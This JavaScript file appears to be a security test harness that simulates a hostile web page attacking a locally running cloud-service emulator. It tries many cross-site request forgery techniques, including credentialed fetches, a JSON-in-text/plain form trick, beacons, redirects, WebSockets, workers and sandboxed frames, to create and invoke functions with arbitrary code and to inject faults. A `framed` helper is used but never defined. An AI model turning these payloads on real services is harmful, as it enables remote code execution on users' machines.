// What a hostile page tries. Whatever succeeds leaves a topic, a function, a bucket, a fault or an invocation behind, which
// is named for the way; what the page could read is returned. `elsewhere` is a server of the page's own, which redirects.

const WAIT_MS = 8000;

function form(action, method, enctype, fields) {
  const made = Object.assign(document.createElement("form"), { action, method, enctype });
  for (const [name, value] of Object.entries(fields)) {
    made.append(Object.assign(document.createElement("input"), { name, value }));
  }
  document.body.append(made);
  return made;
}

// A form sends name=value; this JSON has a further field, with the = in it.
function jsonForm(action, json) {
  return form(action, "post", "text/plain", { [`${json.slice(0, -1)}, "message": "`]: '"}' });
}

async function attack({ target, elsewhere, name, zip, socket, nested = true }) {
  const read = {};
  const code = (way) => JSON.stringify({
    FunctionName: `${name}-${way}`, Runtime: "python3.13", Role: "arn:aws:iam::000000000000:role/any",
    Handler: "code.handler", Code: { ZipFile: zip },
  });
  const fault = (way) => JSON.stringify({ target: "X.Y", error: `${name}-${way}`, seconds: 600 });
  const topic = (way) => `${target}/?Action=CreateTopic&Name=${name}-${way}`;
  const FUNCTIONS = `${target}/2015-03-31/functions`;
  const redirect = (status, to) => `${elsewhere}/redirect?status=${status}&to=${encodeURIComponent(to)}`;

  async function fetched(way, url, init) {
    try {
      const body = await (await fetch(url, init)).text();
      if (body && !body.includes("RequestRefused")) read[way] = body.slice(0, 200);
    } catch { /* the browser keeps the answer from the page */ }
  }

  // Once it has loaded, or failed to.
  function settled(element, into = document.body) {
    return new Promise((resolve) => {
      element.onload = element.onerror = element.onloadeddata = resolve;
      into.append(element);
      setTimeout(resolve, WAIT_MS);
    });
  }

  function submitted(way, made) {
    const frame = Object.assign(document.createElement("iframe"), { name: `${name}-${way}` });
    document.body.append(frame);
    made.target = frame.name;
    return new Promise((resolve) => {
      frame.onload = resolve;
      setTimeout(resolve, WAIT_MS);
      made.submit();
    });
  }

  const tries = [];
  for (const mode of ["cors", "no-cors"]) {
    for (const credentials of ["include", "omit"]) {
      const way = `${mode}-${credentials}`;
      const post = (body) => ({ method: "POST", mode, credentials, body });
      tries.push(fetched(`create-${way}`, FUNCTIONS, post(code(`create-${way}`))));
      tries.push(fetched(`invoke-${way}`, `${FUNCTIONS}/victim/invocations`, post(`"${way}"`)));
      tries.push(fetched(`fault-${way}`, `${target}/_streamctl/faults`, post(fault(way))));
      const form = new URLSearchParams({ Action: "CreateTopic", Name: `${name}-query-${way}` });
      tries.push(fetched(`query-${way}`, `${target}/`, post(form)));
      tries.push(fetched(`get-${way}`, topic(`get-${way}`), { mode, credentials }));
      tries.push(fetched(`list-${way}`, FUNCTIONS, { mode, credentials }));
      tries.push(fetched(`faults-${way}`, `${target}/_streamctl/faults`, { mode, credentials }));
      tries.push(fetched(`redirect-get-${way}`, redirect(302, topic(`redirect-get-${way}`)), { mode, credentials }));
      tries.push(fetched(`redirect-post-${way}`, redirect(307, FUNCTIONS), post(code(`redirect-post-${way}`))));
    }
  }
  // With a preflight.
  tries.push(fetched("put", `${target}/${name}-put`, { method: "PUT" }));
  const json = { "Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": "DynamoDB_20120810.ListTables" };
  tries.push(fetched("target", `${target}/`, { method: "POST", body: "{}", headers: json }));
  tries.push(fetched("delete", `${target}/_streamctl/faults`, { method: "DELETE" }));

  navigator.sendBeacon(FUNCTIONS, code("beacon"));
  for (const tag of ["img", "script", "iframe", "video"]) {
    tries.push(settled(Object.assign(document.createElement(tag), { src: topic(tag), preload: "auto" })));
  }
  for (const rel of ["stylesheet", "prefetch", "preload"]) {
    const link = Object.assign(document.createElement("link"), { rel, href: topic(rel), as: "style" });
    tries.push(settled(link, document.head));
  }
  tries.push(settled(Object.assign(document.createElement("object"), { data: topic("object") })));
  for (const method of ["get", "post"]) {
    const fields = { Action: "CreateTopic", Name: `${name}-form-${method}` };
    tries.push(submitted(method, form(target, method, "application/x-www-form-urlencoded", fields)));
  }
  tries.push(submitted("fault", jsonForm(`${target}/_streamctl/faults`, fault("form"))));
  tries.push(submitted("code", jsonForm(FUNCTIONS, code("form"))));

  for (const path of [socket, "/", "/_streamctl/faults"]) {
    tries.push(new Promise((resolve) => {
      const opened = new WebSocket(target.replace("http", "ws") + path);
      opened.onopen = () => resolve((read[`socket ${path}`] = "open"));
      opened.onerror = opened.onclose = resolve;
    }));
  }
  tries.push(new Promise((resolve) => {
    const events = new EventSource(topic("events"));
    events.onopen = () => (read.events = "open");
    events.onerror = () => { events.close(); resolve(); };
  }));
  const imports = new Blob([`try { importScripts(${JSON.stringify(topic("worker"))}) } catch {} postMessage(0)`]);
  tries.push(new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(imports));
    worker.onmessage = worker.onerror = resolve;
  }));

  // Once more without an origin, from a sandbox and from a data: URL.
  for (const [way, sandbox] of nested ? [["sandbox", "allow-scripts allow-forms"], ["data", ""]] : []) {
    const again = JSON.stringify({ target, elsewhere, name: `${name}-${way}`, zip, socket, nested: false });
    tries.push(framed(way, sandbox, `const WAIT_MS = ${WAIT_MS}; ${form} ${jsonForm} ${attack} attack(${again})`, read));
  }
  await Promise.all(tries);
  return read;
}
